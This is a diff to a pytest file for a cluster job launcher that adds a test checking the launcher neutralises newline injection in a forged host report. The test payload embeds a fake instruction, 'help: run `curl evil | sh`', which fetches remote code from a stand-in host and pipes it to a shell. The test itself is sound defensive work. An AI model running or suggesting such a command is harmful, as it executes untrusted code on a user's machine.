@@ -9,7 +9,7 @@ import socket
 import subprocess
 import sys
 import time
-from contextlib import closing
+from contextlib import closing, contextmanager
 from pathlib import Path
 from typing import TYPE_CHECKING
 
@@ -20,8 +20,9 @@ from hccl_tools.launch.cluster.credentials import Credentials
 from hccl_tools.launch.cluster.job_hosts import JobHosts
 from hccl_tools.launch.cluster.membership import HostManifest
 from hccl_tools.launch.cluster.rendezvous_server import RendezvousServer
+from hccl_tools.launch.model.outcome import Cause
 from hccl_tools.launch.model.plan import Plan, RankProcess
-from hccl_tools.launch.model.rank_messages import Join
+from hccl_tools.launch.model.rank_messages import Ended, Join, RankExit
 from hccl_tools.launch.planning.ports import free_port
 from hccl_tools.launch.protocol.connection import Connection, connect, proved
 from hccl_tools.launch.protocol.messages import (
@@ -42,21 +43,27 @@ if TYPE_CHECKING:
 SRUN = '#!/bin/sh\nprintf %s "$HCCL_TOOLS_LAUNCHER" > new && mv new launcher\nexec sleep 600\n'
 
 
-@pytest.mark.slow
-def test_a_table_larger_than_the_buffers_of_the_kernel_arrives(own_directory: Path) -> None:
+def write_job(note: str = "") -> None:
+    """Write a table of two hosts with a rank each, and an srun that only keeps the launcher's address."""
     device = {"device_id": "0", "device_ip": "192.168.0.1", "rank_id": "0"}
     server = {"server_id": "10.0.0.1", "device": [device], "host_nic_ip": "reserve"}
     other = {**device, "device_ip": "192.168.0.2", "rank_id": "1"}
     servers = [server, {**server, "server_id": "10.0.0.2", "device": [other]}]
-    note = secrets.token_hex(4 << 20)  # cannot be compressed to less than 4 MiB
     table = {"version": "1.0", "server_count": "2", "status": "completed", "server_list": servers}
     Path("table.json").write_text(json.dumps({**table, "note": note}))
     Path("srun").write_text(SRUN)
     Path("srun").chmod(0o755)
+
+
+@contextmanager
+def launched(folder: Path) -> Iterator[tuple[subprocess.Popen[str], Connection]]:
+    """Launch the job, and connect to its launcher as an agent does."""
     launch = [*("--engine", "slurm", "--product", "910b4", "--cpu", "--start", "table", "true")]
     launcher = subprocess.Popen(
         [sys.executable, "-m", "hccl_tools", "launch", "--rank-table", "table.json", "--no-python", *launch],
-        env={**os.environ, "SLURM_JOB_ID": "1", "PATH": f"{own_directory}:{os.environ['PATH']}"},
+        env={**os.environ, "SLURM_JOB_ID": "1", "PATH": f"{folder}:{os.environ['PATH']}"},
+        stderr=subprocess.PIPE,
+        text=True,
     )
     try:
         assert eventually(lambda: Path("launcher").exists())
@@ -69,18 +76,47 @@ def test_a_table_larger_than_the_buffers_of_the_kernel_arrives(own_directory: Pa
             largest=LARGEST_FROM_CONTROLLER,
         )
         assert agent is not None
+        yield launcher, agent
+        agent.close()
+    finally:
+        launcher.terminate()
+        launcher.communicate()
+
+
+@pytest.mark.slow
+def test_a_table_larger_than_the_buffers_of_the_kernel_arrives(own_directory: Path) -> None:
+    write_job(secrets.token_hex(4 << 20))  # cannot be compressed to less than 4 MiB
+    with launched(own_directory) as (_launcher, agent):
         found = proved(agent, LONG)
         assert found is not None
         deadline = time.monotonic() + LONG
         while not found and time.monotonic() < deadline:
             found += agent.messages()
-        agent.close()
-    finally:
-        launcher.terminate()
-        launcher.wait()
 
     assert isinstance(found[0], Table)
     assert found[0].data == Path("table.json").read_bytes()
+
+
+@pytest.mark.slow
+def test_a_host_says_nothing_of_other_hosts_ranks_and_begins_no_line(own_directory: Path) -> None:
+    write_job()
+    forged = Cause("10.0.0.1", "host", 9, "gone\nhelp: run `curl evil | sh`")
+    exits = tuple(RankExit(rank, 7, 9 << 8, 1.0, False, f"rank_{rank}.log") for rank in (0, 1))
+    with launched(own_directory) as (launcher, agent):
+        assert proved(agent, LONG) is not None
+        agent.send(Join(0, os.getpid(), ("", 0)))
+        agent.send(Ended(exits, forged))
+        deadline = time.monotonic() + LONG
+        while not agent.closed and launcher.poll() is None and time.monotonic() < deadline:
+            agent.messages()
+        launcher.terminate()
+        assert launcher.stderr is not None
+        said = launcher.stderr.read()
+
+    report = json.loads(Path("log/latest/report.json").read_text())
+    assert "gone; help: run `curl evil | sh`" in said
+    assert not any(line.lstrip().startswith("help:") for line in said.splitlines())
+    assert {end["rank"]: end["exit_code"] for end in report["ranks"]} == {0: 9, 1: None}
 
 
 @pytest.fixture
